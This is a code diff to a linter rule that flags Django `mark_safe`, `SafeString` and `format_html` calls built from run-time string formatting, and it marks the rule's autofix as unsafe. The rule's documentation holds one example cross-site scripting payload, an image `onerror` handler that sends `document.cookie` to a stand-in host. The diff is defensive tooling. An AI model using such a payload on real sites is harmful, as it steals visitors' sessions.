@@ -35,6 +35,7 @@ export default defineRule({
     // Bandit B308 and Ruff S308 report these calls too.
     alsoCovers: ['B308', 'S308'],
     fixable: true,
+    fixApplicability: ['unsafe'],
     docs: {
       what: 'Finds `mark_safe(...)` / `SafeString(...)` whose argument is built with an f-string, `%`, `.format()` or `+` from values known only at run time (directly or through a variable assigned once), and `format_html(...)` whose format string is itself built that way — which defeats the escaping `format_html` exists for.',
       why: 'The formatted values are pasted into HTML that Django then trusts: a user name of `<img src=x onerror=fetch("//evil.example/"+document.cookie)>` runs script in every visitor\'s browser (cross-site scripting), stealing sessions or acting as the victim. `format_html("<b>{}</b>", name)` escapes each value (and leaves values that are already safe HTML alone); pre-formatting the string before handing it to `format_html` or `mark_safe` skips that.',
@@ -83,5 +84,5 @@ function formatHtmlFix(call: CallSite, value: Node, isFormatHtml: boolean, conte
   const spelled = isFormatHtml ? { text: call.callee.text, edits: [] } : spellImported(FORMAT_HTML, call.node, moduleOf(call.node), context, fixer);
   if (!spelled) return [];
   const rewritten = `${spelled.text}(${[template.template, ...template.values].join(', ')})`;
-  return [fixer.fix('Use format_html so the values are escaped', [...spelled.edits, fixer.replace(call.node, rewritten)])];
+  return [fixer.unsafe('Use format_html so the values are escaped', 'values holding HTML on purpose are escaped too', [...spelled.edits, fixer.replace(call.node, rewritten)])];
 }
